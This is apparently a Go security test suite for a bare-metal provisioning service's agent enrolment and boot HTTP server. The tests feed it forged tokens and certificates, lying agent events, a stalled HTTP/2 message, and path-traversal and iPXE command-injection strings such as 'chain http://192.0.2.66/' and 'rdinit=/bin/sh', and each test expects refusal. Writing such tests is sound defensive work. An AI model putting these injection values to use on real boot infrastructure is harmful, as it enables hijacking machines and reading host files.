package attack

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/bcrypt"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/status"

	"github.com/ingot-metal/ingot/conductor/agents/agentstest"
	"github.com/ingot-metal/ingot/proto/agentv1"
	"github.com/ingot-metal/ingot/test/kit/ingotd"
)

// session tries to open a session for an agent with a certificate, and gives the stream, or why there is none.
func (w *bootWorld) session(a *agentstest.Agent, cert *tls.Certificate) (agentv1.Agents_SessionClient, error) {
	w.Helper()
	conf := a.TLS()
	conf.Certificates = nil
	if cert != nil {
		// even if it is not requested
		conf.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return cert, nil }
	}
	conn, err := grpc.NewClient("passthrough:///"+a.Addr, grpc.WithTransportCredentials(credentials.NewTLS(conf)))
	if err != nil {
		w.Fatal(err)
	}
	w.Cleanup(func() { conn.Close() })
	ctx, cancel := context.WithTimeout(w.Context(), time.Minute)
	w.Cleanup(cancel)
	stream, err := agentv1.NewAgentsClient(conn).Session(ctx)
	if err != nil {
		return nil, err
	}
	// Recv says why, if not
	stream.Send(&agentv1.AgentMessage{
		Body: &agentv1.AgentMessage_Hello{
			Hello: &agentv1.Hello{BootId: a.BootID, Generation: a.Gen, AgentVersion: "simulated",
				StepsDigest: "simulated"}}})
	m, err := stream.Recv()
	if err == nil && m.GetWelcome() == nil {
		err = fmt.Errorf("the first message is %T", m.Body)
	}
	return stream, err
}

// plan waits for the plan that a session brings.
func (w *bootWorld) plan(stream agentv1.Agents_SessionClient) *agentv1.Plan {
	w.Helper()
	for {
		m, err := stream.Recv()
		if err != nil {
			w.Fatal(err)
		}
		if p := m.GetPlan(); p != nil {
			return p
		}
	}
}

// enroll enrols an agent with a key that the test has, and gives key and certificate.
func (w *bootWorld) enroll(a *agentstest.Agent) (*ecdsa.PrivateKey, *tls.Certificate, error) {
	w.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		w.Fatal(err)
	}
	req, err := a.Request()
	if err != nil {
		w.Fatal(err)
	}
	if req.Csr, err = x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{}, key); err != nil {
		w.Fatal(err)
	}
	conn, err := a.Dial()
	if err != nil {
		w.Fatal(err)
	}
	defer conn.Close()
	resp, err := agentv1.NewAgentsClient(conn).Enroll(w.Context(), req)
	if err != nil {
		return nil, nil, err
	}
	a.Node, a.Gen = resp.NodeUuid, resp.Generation
	return key, &tls.Certificate{Certificate: [][]byte{resp.Certificate}, PrivateKey: key}, nil
}

// TestAgentOfAnotherNode: the agent of a node, and an attacker with its token, key and certificate, get nothing of
// another node, and can't lie about their own.
func TestAgentOfAnotherNode(t *testing.T) {
	w := newBootWorld(t)
	const mac, otherMAC = "52:54:00:00:08:01", "52:54:00:00:08:02"
	state := func(name, want string) {
		t.Helper()
		if out := w.want(200, root, "GET", "/v1/nodes/"+name+"/states", ""); !strings.Contains(out,
			`"provision_state":"`+want+`"`) {
			t.Errorf("%s is not %q: %s", name, want, out)
		}
	}
	id := w.machine("own", mac, `"inspect_interface":"agent"`)
	otherID := w.machine("other", otherMAC, `"inspect_interface":"agent"`)
	for _, name := range []string{"own", "other"} {
		w.state(name, "inspect", "inspect wait")
	}
	own, other := w.agent(mac), w.agent(otherMAC)

	denied := func(what string, err error) {
		t.Helper()
		if status.Code(err) != codes.PermissionDenied || status.Convert(err).Message() != "enrolment refused" {
			t.Errorf("enrolment of %s = %v, want a refusal without details", what, err)
		}
	}
	for _, c := range []struct {
		name, token, mac string
	}{
		{"a token that is guessed", otherID + "." + strings.Repeat("A", 43), otherMAC},
		{"the own token for the other node", otherID + own.Token[36:], otherMAC},
		{"the other's token from this machine", other.Token, mac},
		{"a node that does not exist", "00000000-0000-4000-8000-000000000000" + own.Token[36:], mac},
	} {
		denied(c.name, (&agentstest.Agent{Addr: own.Addr, Fingerprint: own.Fingerprint, Token: c.token,
			MACs: []string{c.mac}}).Enroll(t.Context()))
	}
	key, cert, err := w.enroll(own)
	if err != nil {
		t.Fatal(err)
	}
	_, _, err = w.enroll(own)
	denied("another key with a used token", err)
	if _, _, err := w.enroll(&agentstest.Agent{Addr: own.Addr, Fingerprint: own.Fingerprint, Token: own.Token,
		MACs: own.MACs}); err == nil {
		t.Error("another boot enrols with a used token")
	}
	if err := other.Enroll(t.Context()); err != nil {
		t.Fatalf("the other's own agent, after all that: %v", err)
	}

	leaf := func(subject []byte, parent *x509.Certificate, public *ecdsa.PublicKey, signer *ecdsa.PrivateKey,
		rest ...[]byte) *tls.Certificate {
		t.Helper()
		of, err := x509.ParseCertificate(subject)
		if err != nil {
			t.Fatal(err)
		}
		template := &x509.Certificate{SerialNumber: big.NewInt(7), Subject: of.Subject, URIs: of.URIs,
			DNSNames: of.DNSNames, ExtraExtensions: of.ExtraExtensions, NotBefore: of.NotBefore, NotAfter: of.NotAfter,
			ExtKeyUsage: of.ExtKeyUsage, KeyUsage: of.KeyUsage}
		if parent == nil {
			parent = template
		}
		der, err := x509.CreateCertificate(rand.Reader, template, parent, public, signer)
		if err != nil {
			t.Fatal(err)
		}
		return &tls.Certificate{Certificate: append([][]byte{der}, rest...), PrivateKey: key}
	}
	agents, err := x509.ParseCertificate(cert.Certificate[0])
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		cert *tls.Certificate
	}{
		{"none", nil},
		{"one that it signed itself", leaf(other.Certificate(), nil, &key.PublicKey, key)},
		{"one that an agent's key signed", leaf(other.Certificate(), agents, &key.PublicKey, key, cert.Certificate[0])},
		{"the other's, without its key", &tls.Certificate{Certificate: [][]byte{other.Certificate()}, PrivateKey: key}},
	} {
		if _, err := w.session(other, c.cert); err == nil {
			t.Errorf("a session with the certificate %q is open", c.name)
		}
	}
	for _, c := range []struct {
		name, boot string
		generation uint64
	}{{"the other's boot", other.BootID, other.Gen}, {"another generation", own.BootID, own.Gen + 1}} {
		if _, err := w.session(
			&agentstest.Agent{Addr: own.Addr, Fingerprint: own.Fingerprint, BootID: c.boot, Gen: c.generation},
			cert); err == nil {
			t.Errorf("a session as %s is open", c.name)
		}
	}

	// The right certificate, and lies.
	stream, err := w.session(own, cert)
	if err != nil {
		t.Fatal(err)
	}
	plan := w.plan(stream)
	seq := uint64(0)
	for _, e := range []*agentv1.Event{
		{Body: &agentv1.Event_StepStarted{
			StepStarted: &agentv1.StepStarted{PlanId: "another plan", StepIndex: 1 << 31, Interface: "deploy",
				Name: "write_image"}}},
		{Body: &agentv1.Event_StepFinished{
			StepFinished: &agentv1.StepFinished{PlanId: "another plan", Interface: "inspect", Name: "inspect",
				Outcome: agentv1.Outcome_OUTCOME_DONE}}},
		{Body: &agentv1.Event_PlanFinished{PlanFinished: &agentv1.PlanFinished{PlanId: "another plan", Done: true}}},
		{Body: &agentv1.Event_StepFinished{
			StepFinished: &agentv1.StepFinished{PlanId: plan.Id, StepIndex: 1<<32 - 1, Interface: "inspect",
				Name: "inspect", Outcome: agentv1.Outcome_OUTCOME_DONE, Result: []byte(`{"inventory":{}}`)}}},
		{Body: &agentv1.Event_Progress{
			Progress: &agentv1.Progress{PlanId: plan.Id, StepIndex: 1<<32 - 1, Bytes: 1 << 62, Total: 1}}},
		// of which no step was done
		{Body: &agentv1.Event_PlanFinished{PlanFinished: &agentv1.PlanFinished{PlanId: plan.Id, Done: true}}},
	} {
		seq++
		e.Seq = seq
		if err := stream.Send(&agentv1.AgentMessage{Body: &agentv1.AgentMessage_Event{Event: e}}); err != nil {
			t.Fatal(err)
		}
	}
	ingotd.Wait(t, "the inspection is over", func() bool {
		out := w.want(200, root, "GET", "/v1/nodes/own/states", "")
		if strings.Contains(out, `"provision_state":"manageable"`) {
			t.Fatalf("an inspection of which no step was done is done: %s", out)
		}
		return strings.Contains(out, `"provision_state":"inspect failed"`)
	})
	state("other", "inspect wait")
	if h := w.want(200, root, "GET", "/v1/nodes/"+id+"/history", ""); strings.Count(h, `"event"`) > 100 {
		t.Errorf("the history has %d lines", strings.Count(h, `"event"`))
	}

	// A certificate ends with its boot, and with its node.
	if _, err := w.session(own, cert); err == nil {
		t.Error("a session is open after the end of the boot")
	}
	w.want(202, root, "PUT", "/v1/nodes/other/states/provision", `{"target":"abort"}`)
	ingotd.Wait(t, "the other's inspection is given up", func() bool {
		return strings.Contains(w.want(200, root, "GET", "/v1/nodes/other/states", ""),
			`"provision_state":"inspect failed"`)
	})
	w.want(202, root, "PUT", "/v1/nodes/other/maintenance", `{}`)
	ingotd.Wait(t, "the other is deleted", func() bool {
		status, _, _ := w.ask(root, "DELETE", "/v1/nodes/other", "")
		return status == 204
	})
	if _, _, _, err := other.Open(t.Context()); err == nil {
		t.Error("a session of a deleted node is open")
	}
}

// TestHalfSentMessage: an agent can't hold memory by messages that it does not end.
func TestHalfSentMessage(t *testing.T) {
	t.Parallel() // it waits
	w := newBootWorld(t)
	const mac = "52:54:00:00:0a:01"
	w.machine("slow", mac, `"inspect_interface":"agent"`)
	w.state("slow", "inspect", "inspect wait")
	a := w.agent(mac)
	_, cert, err := w.enroll(a)
	if err != nil {
		t.Fatal(err)
	}
	conf := a.TLS()
	conf.Certificates, conf.NextProtos = []tls.Certificate{*cert}, []string{"h2"}
	c, err := tls.Dial("tcp", a.Addr, conf)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		t.Fatal(err)
	}
	var head bytes.Buffer
	h := hpack.NewEncoder(&head)
	for _, kv := range [][2]string{{":method", "POST"}, {":scheme", "https"},
		{":path", agentv1.Agents_Session_FullMethodName}, {":authority", a.Addr}, {"content-type", "application/grpc"},
		{"te", "trailers"}} {
		if err := h.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]}); err != nil {
			t.Fatal(err)
		}
	}
	f := http2.NewFramer(c, c)
	err = errors.Join(f.WriteSettings(),
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head.Bytes(), EndHeaders: true}),
		f.WriteData(1, false, []byte{0, 0, 16, 0, 0, 1, 2, 3})) // a message of 1 MiB begins
	if err != nil {
		t.Fatal(err)
	}
	if err := c.SetReadDeadline(time.Now().Add(time.Minute)); err != nil {
		t.Fatal(err)
	}
	for {
		frame, err := f.ReadFrame()
		if errors.Is(err, os.ErrDeadlineExceeded) {
			t.Fatal("a connection on which a message does not end is open after a minute")
		}
		if err != nil {
			return
		}
		if p, ok := frame.(*http2.PingFrame); ok && !p.IsAck() { // it is alive
			if f.WritePing(true, p.Data) != nil {
				return
			}
		}
	}
}

// TestRescuedMachine: root on a machine in rescue has its agent's key, which gives access only to that machine; the
// login password is nowhere in clear.
func TestRescuedMachine(t *testing.T) {
	w := newBootWorld(t, "history.reports_per_node=10", "log_format=json")
	const mac, password = "52:54:00:00:09:01", "canary-of-a-rescue"
	id := w.machine("hurt", mac,
		`"rescue_interface":"agent","deploy_interface":"ramdisk","instance_info":{"kernel":"http://192.0.2.1/k"}`)
	w.machine("neighbour", "52:54:00:00:09:02",
		`"inspect_interface":"agent","instance_info":{"configdrive":{"user_data":"canary-drive"}}`)
	w.state("neighbour", "inspect", "inspect wait")
	w.state("hurt", "adopt", "active")
	w.lease("hurt", "shop")
	w.want(202, leo, "PUT", "/v1/nodes/hurt/states/provision", `{"target":"rescue","rescue_password":"`+password+`"}`)
	a := w.agent(mac)
	_, cert, err := w.enroll(a)
	if err != nil {
		t.Fatal(err)
	}
	stream, err := w.session(a, cert)
	if err != nil {
		t.Fatal(err)
	}
	plan := w.plan(stream)
	seq := uint64(0)
	say := func(e *agentv1.Event) {
		t.Helper()
		if e.GetLog() == nil {
			seq++
			e.Seq = seq
		}
		if err := stream.Send(&agentv1.AgentMessage{Body: &agentv1.AgentMessage_Event{Event: e}}); err != nil {
			t.Fatal(err)
		}
	}
	say(&agentv1.Event{
		Body: &agentv1.Event_StepFinished{
			StepFinished: &agentv1.StepFinished{PlanId: plan.Id, Interface: "rescue", Name: "rescue",
				Outcome: agentv1.Outcome_OUTCOME_DONE,
				Result:  []byte(`{"addresses":["192.0.2.7"],"port":22,"host_key":"SHA256:abc"}`)}}})
	say(&agentv1.Event{
		Body: &agentv1.Event_PlanFinished{PlanFinished: &agentv1.PlanFinished{PlanId: plan.Id, Done: true}}})
	rescued := func() bool {
		return strings.Contains(w.want(200, root, "GET", "/v1/nodes/hurt/states", ""), `"provision_state":"rescue"`)
	}
	ingotd.Wait(t, "the machine is in rescue", rescued)

	requests := func() (asked int) {
		var h struct{ History []struct{ Event string } }
		if err := json.Unmarshal([]byte(w.want(200, olga, "GET", "/v1/nodes/hurt/history?detail=true", "")),
			&h); err != nil {
			t.Fatal(err)
		}
		for _, l := range h.History {
			if strings.Contains(l.Event, " requested in state ") {
				asked++
			}
		}
		return asked
	}
	asked := requests()
	if asked < 3 {
		t.Errorf("%d requests are in the history, which shows nothing", asked)
	}
	for i := range 1000 {
		say(&agentv1.Event{
			Body: &agentv1.Event_Log{Log: &agentv1.LogLine{Level: "ERROR", Message: fmt.Sprint("look here ", i)}}})
	}
	for range 300 { // each is a line of the history, which is trimmed now and then
		say(&agentv1.Event{
			Body: &agentv1.Event_WorkerRestarted{
				WorkerRestarted: &agentv1.WorkerRestarted{Reason: "\x1b[2J" + strings.Repeat("x", 1000),
					Count: 1 << 31}}})
	}
	for range 20 { // which is no result
		say(&agentv1.Event{Body: &agentv1.Event_Progress{Progress: &agentv1.Progress{PlanId: plan.Id}}})
	}
	say(&agentv1.Event{Body: &agentv1.Event_PlanFinished{PlanFinished: &agentv1.PlanFinished{PlanId: "another plan"}}})
	for m := new(agentv1.ConductorMessage); m.GetAck().GetSeq() < seq; { // then all before was heard
		if m, err = stream.Recv(); err != nil {
			t.Fatal(err)
		}
	}
	if n := strings.Count(w.d.Log.String(), "result of an unknown kind"); n != 1 {
		t.Errorf("%d lines of the log tell of results that are none, want 1", n)
	}
	if got := requests(); got != asked {
		t.Errorf("%d requests are in the history, %d before the machine talked", got, asked)
	}
	if !rescued() {
		t.Error("the machine talked itself out of rescue")
	}

	for _, path := range []string{"/v1/nodes", "/v1/nodes/" + id, "/ingot/v1/nodes/neighbour/logs"} {
		w.want(401, anonymous, "GET", path, "")
	}
	w.absent("the lookup of a neighbour", w.want(200, anonymous, "GET", "/v1/lookup?addresses=52:54:00:00:09:02", ""),
		"canary")
	for _, path := range []string{"/workload/" + id + "/config-drive.cpio", "/workload/neighbour/config-drive.cpio"} {
		if status, _ := w.fetch(machineAddr, path); status != http.StatusNotFound {
			t.Errorf("GET %s from the machine = %d", path, status)
		}
	}

	var args struct {
		Hash string `json:"password_hash"`
	}
	if err := json.Unmarshal(plan.Steps[0].Args, &args); err != nil ||
		bcrypt.CompareHashAndPassword([]byte(args.Hash), []byte(password)) != nil {
		t.Errorf("the plan has %q, %v, want the password's bcrypt hash", args.Hash, err)
	}
	w.absent("the log", w.d.Log.String(), password, args.Hash)
	w.all(olga)
	files := 0
	err = filepath.WalkDir(w.d.Dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() { // folders, and the socket of ingotd drain
			return err
		}
		b, err := os.ReadFile(path)
		if bytes.Contains(b, []byte(password)) {
			t.Errorf("%s holds the password", path)
		}
		files++
		return err
	})
	if err != nil || files < 5 {
		t.Errorf("%d files were read: %v", files, err)
	}
}

// TestBootHTTP: a client of boot HTTP gets the offered files, and a script into which it can't inject text.
func TestBootHTTP(t *testing.T) {
	w := newBootWorld(t)
	for _, path := range []string{"/", "/images/", "/images/../../../etc/passwd",
		"/images/..%2f..%2f..%2f..%2fetc%2fpasswd", "/images/%2e%2e/%2e%2e/etc/passwd", "/images/%00", "/ramdisk/",
		"/ramdisk/manifest.json", "/loader/..%2f..%2fkey", "/workload/", "/workload/..%2f..%2fkey/config-drive.cpio",
		"/" + strings.Repeat("a/", 3000)} {
		status, body := w.fetch(strangerAddr, path)
		if status < 300 || status >= 500 && status != 501 {
			t.Errorf("GET %.100s = %d", path, status)
		}
		w.absent("GET "+path, body, "root:x:0", "vmlinuz", "manifest.json")
	}
	for _, query := range []string{"?mac=52:54:00:00:0a:01%0aimgfetch%20http://192.0.2.66/%0a", "?mac=$%7bnet0/mac%7d",
		"?uuid=x%0aboot", "?mac=" + strings.Repeat("52:54:", 5000), "?mac=52:54:00:00:0a:01&uuid=%0d%0aX-Evil:1",
		"?mac=%00%ff", "?mac[]=1&mac[]=2"} {
		if status, body := w.fetch(strangerAddr, "/boot.ipxe"+query); status < 400 ||
			strings.Contains(body, "192.0.2.66") || strings.Contains(body, "${net0") {
			t.Errorf("GET /boot.ipxe%.100s = %d %.300s", query, status, body)
		}
	}
	const mac = "52:54:00:00:0a:02"
	w.machine("n", mac, `"inspect_interface":"agent"`)
	for _, params := range []string{`a=1 ${net0/mac}`, `a=1 && chain http://192.0.2.66/`, `a || shell`,
		`rdinit=/bin/sh`, `ingot.conductor=192.0.2.66:1`, `x\n\nchain http://192.0.2.66/`} {
		status, _, out := w.ask(olga, "PATCH", "/v1/nodes/n",
			`[{"op":"add","path":"/driver_info/kernel_append_params","value":"`+params+`"}]`)
		if status == 400 {
			continue
		}
		if status != 200 {
			t.Errorf("%s: %d %s", params, status, out)
		}
		w.want(202, root, "PUT", "/v1/nodes/n/states/provision", `{"target":"inspect"}`)
		var state string
		ingotd.Wait(t, "the machine is on", func() bool {
			var n struct {
				State string `json:"provision_state"`
			}
			if err := json.Unmarshal([]byte(w.want(200, root, "GET", "/v1/nodes/n/states", "")), &n); err != nil {
				t.Fatal(err)
			}
			state = n.State
			return state == "inspect wait" || state == "inspect failed"
		})
		status, text, _ := w.script(machineAddr, mac)
		for line := range strings.Lines(text) {
			if strings.HasPrefix(line, "chain http://192.0.2.66") || strings.Contains(line, "||shell") ||
				status == 200 && !strings.Contains(params, `\n`) {
				t.Errorf("%s: the script with status %d has %q", params, status, line)
			}
		}
		if state == "inspect wait" {
			w.want(202, root, "PUT", "/v1/nodes/n/states/provision", `{"target":"abort"}`)
			ingotd.Wait(t, "the inspection is given up", func() bool {
				return strings.Contains(w.want(200, root, "GET", "/v1/nodes/n/states", ""),
					`"provision_state":"inspect failed"`)
			})
		}
	}
}
